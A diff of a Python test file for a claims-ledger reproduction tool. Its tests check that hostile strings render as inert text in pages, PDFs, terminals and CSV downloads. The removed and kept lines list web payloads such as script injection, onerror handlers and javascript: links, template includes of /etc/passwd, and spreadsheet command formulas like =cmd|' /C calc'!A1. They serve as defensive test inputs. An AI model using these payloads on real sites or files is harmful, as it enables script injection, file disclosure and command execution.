@@ -1,48 +1,18 @@
-"""Text of data and YAML is text wherever it arrives: on a page, in print, in a terminal, in a CSV."""
+"""Hostile text in a ledger and a configuration is text on a page and in print."""
 
-import csv
-import io
-import json
 from html.parser import HTMLParser
 from pathlib import Path
 from typing import Any
-from xml.etree import ElementTree
 
-import pandas as pd
 import pytest
 import yaml
+from hostile import HOSTILE
 from pypdf import PdfReader
 
-from letter.display import overview
-from letter.display.downloads import csv_text
 from reproduction.book import BookError, build, pdf
-from reproduction.claims import Checks, Computed, Entry, evaluate, load_ledger
-from reproduction.claims.report import Comparison, Outcome, as_json, as_junit, as_rows, as_text
-from reproduction.inputs.defects import Defect, InputError, printable
-from reproduction.inputs.text import is_hidden
+from reproduction.claims import load_ledger
+from reproduction.inputs.defects import InputError
 
-# What would happen if it were more than text: 1729 and 4104 would be on the page.
-HOSTILE = (
-    "<script>document.write(1728+1)</script>",
-    "</script><script src=//example.org/x.js></script>",
-    '"><img src=x onerror=alert(1)>',
-    "' onmouseover='alert(1)",
-    "</td></tr></table></main><iframe src=x>",
-    "[a](javascript:alert(1)) and <javascript:alert(2)>",
-    "[a]{.x onclick=alert(1)}]{.x}",
-    "`<b>raw</b>`{=html} and `#(1728+1)`{=typst}",
-    "`{python} 1728 + 1`",
-    "{{< include /etc/passwd >}} and {{< env HOME >}}",
-    '#eval("1728+1") #(4103+1) $1728+1$',
-    "#import \"@preview/x:1.0.0\": * #include \"/etc/passwd\"",
-    "*strong* _emph_ ~~gone~~ ^up^ H~2~O <!-- hidden -->",
-    "@nobody2000 [@nobody2000] [^1] \\input{/etc/passwd}",
-    "a | b || c | d",
-    "&lt;b&gt; &amp; &#60;script&#62;",
-    "::: {.callout-note} :::",
-    "--- ... -- \" '",
-    "# A heading - and a list",
-)  # fmt: skip
 IN_PRINT = (  # these have the same letters in the PDF's font, on one line
     "#(4103+1)", "[a](javascript:alert(1))", "<script>document.write(1728+1)</script>",
     "{{< env HOME >}}", "a | b || c | d",
@@ -51,9 +21,9 @@ IN_PRINT = (  # these have the same letters in the PDF's font, on one line
 CELL = """\
 from pathlib import Path
 from reproduction.claims import Checks, evaluate, load_ledger
-from reproduction.claims.display import InlineClaim, Markdown, check_table, escape
+from reproduction.claims.display import Markdown, check_table, escape, inline_claim
+from reproduction.claims.pages import ledger
 from reproduction.claims.report import Outcome
-from letter.display.overview import ledger_markdown
 results = evaluate(load_ledger(Path("claims.yaml")), Checks(), None)
 """
 CHAPTER = f"""\
@@ -74,7 +44,7 @@ print(check_table(results, "index.qmd"))
 ```{{python}}
 #| echo: false
 #| output: asis
-print(ledger_markdown(Outcome(results)))
+print(ledger(Outcome(results), {{}}, None))
 ```
 
 INLINE
@@ -93,8 +63,7 @@ def written(folder: Path) -> Path:
     ]  # fmt: skip
     inline = "\n\n".join(
         f"`{{python}} Markdown(escape(results[{n}].because))` "
-        f'`{{python}} InlineClaim(results[{n}], results[{n}].entry.says.replace("{{", "{{{{")'
-        f'.replace("}}", "}}}}") + " is {{0}}", "index.qmd")`'
+        f'`{{python}} inline_claim(results[{n}], "{{0}}", "index.qmd")`'
         for n in range(len(HOSTILE))
     )
     config = {
@@ -159,7 +128,7 @@ def page(book) -> Page:
 def test_on_a_page_all_of_it_is_text(page):
     words = " ".join(page.text.split())
     for value in HOSTILE:
-        assert words.count(f"A {value}") >= 3, value  # the two tables, and the claim in prose
+        assert words.count(f"A {value}") >= 2, value  # the two tables
         assert words.count("B " + value.replace("{", "(").replace("}", ")")) >= 2, value
     assert "1729" not in words
     assert "4104" not in words
@@ -232,82 +201,7 @@ def test_a_title_holds_no_code(tmp_path, title):
     assert "heading; expected" in str(caught.value)
 
 
-@pytest.mark.parametrize("title", ["a | b", "]{.x onclick=y}", "[a](javascript:x)", "<b>x</b>"])
-def test_a_title_in_the_ledger_is_text(tmp_path, title):
-    chapter = tmp_path / "chapter.qmd"
-    chapter.write_text(f'# {title}\n\n`{{python}} claim("a")`\n', encoding="utf-8")
-    link = overview._chapter_link(chapter)
-    start, end = link.index("["), link.rindex("](")
-    assert end == len(link) - len("](chapter.qmd)")
-    inner = link[start + 1 : end]
-    for special in "[]|<>{}":
-        assert inner.replace("\\" + special, "").count(special) == 0
-
-
 def test_a_file_that_does_not_exist_is_named_without_control_characters():
     with pytest.raises(InputError) as caught:
         load_ledger(Path("no\x1b[2J\u202e\udcff.yaml"))
     assert str(caught.value).startswith("no\\x1b[2J\\u202e\\udcff.yaml: cannot be read")
-
-
-# --- Terminals and programs
-
-UNSEEN = "\x1b[31m \x9b2J \x07 \u202e \u200b \u2028 \r"
-
-
-def outcome(says: str, *differences: str) -> Outcome:
-    """One claim that is as expected, and cells that are not."""
-    entry = Entry.model_validate(
-        {"id": "a", "at": "p1", "prints": ["4"], "says": says, "basis": "patients",
-         "expect": "reproduced"}
-    )  # fmt: skip
-    check: Checks[None] = Checks()
-    check("a")(lambda _: Computed((4,)))
-    return Outcome(evaluate([entry], check, None), (Comparison("cells", 1, differences),))
-
-
-def test_a_terminal_gets_no_control_characters():
-    text = as_text(outcome(f"A{UNSEEN}", f"B{UNSEEN}"))
-    assert not any(is_hidden(character) for character in text.replace("\n", ""))
-    assert "B\\x1b[31m \\x9b2J \\x07 \\u202e \\u200b \\u2028 \\r" in text
-    assert str(Defect("f", "", UNSEEN, UNSEEN)).count("\\x1b") == 2
-    assert printable("é ≥ \u00a0 ½ 🦠") == "é ≥ \u00a0 ½ 🦠"
-
-
-@pytest.mark.parametrize("value", HOSTILE)
-def test_json_and_junit_keep_it_whole(value):
-    found = outcome(f"A {value}", value)
-    assert json.loads(as_json(found))["claims"][0]["says"] == f"A {value}"
-    root = ElementTree.fromstring(as_junit(found).encode())
-    assert [failure.text for failure in root.iter("failure")] == [value]
-    assert {element.tag for element in root.iter()} <= {
-        "testsuites", "testsuite", "testcase", "failure",
-    }  # fmt: skip
-
-
-# --- Spreadsheet programs
-
-
-@pytest.mark.parametrize(
-    "value",
-    ["=1+1", "=cmd|' /C calc'!A1", "+1+cmd|' /C calc'!A1", "-2+3+cmd|' /C calc'!A1", "@SUM(A1)",
-     "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://example.org/?\"&A1)"],
-)  # fmt: skip
-def test_a_formula_is_in_no_download(value):
-    with pytest.raises(ValueError, match="expected text that is no formula"):
-        csv_text(pd.DataFrame({"text": ["plain", value]}))
-
-
-@pytest.mark.parametrize(
-    "value", ["-4.2", "-4.2, 3", "+5", "-", "–", "−3", "", "50% =", "a@b", "'"]
-)
-def test_other_text_is_in_a_download_as_it_is(value):
-    text = csv_text(pd.DataFrame({"text": [value], "number": [1]}))
-    assert list(csv.reader(io.StringIO(text)))[1] == [value, "1"]
-
-
-@pytest.mark.parametrize("value", HOSTILE)
-def test_the_ledgers_download_keeps_it_whole(value):
-    frame = pd.DataFrame(as_rows(outcome(f"A {value}").results))
-    (row,) = csv.DictReader(io.StringIO(csv_text(frame)))
-    assert row["says"] == f"A {value}"
